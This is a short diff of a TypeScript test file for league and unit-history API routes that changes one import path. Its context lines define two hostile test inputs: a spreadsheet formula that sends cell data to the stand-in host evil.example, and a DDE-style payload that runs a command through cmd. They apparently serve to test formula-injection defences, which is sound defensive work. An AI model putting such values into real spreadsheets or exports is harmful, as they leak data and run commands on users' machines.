@@ -3,7 +3,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { GET as league } from './league/route';
 import { GET as history } from './units/[code]/history/route';
-import { createTestStore, type TestStore } from '@/db/test-store';
+import { createTestStore, type TestStore } from '@/db/testing/test-store';
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Hồ Chí Minh")';
 const HOSTILE_REGION = '@SUM(1+1)*cmd|\' /C calc\'!A0';
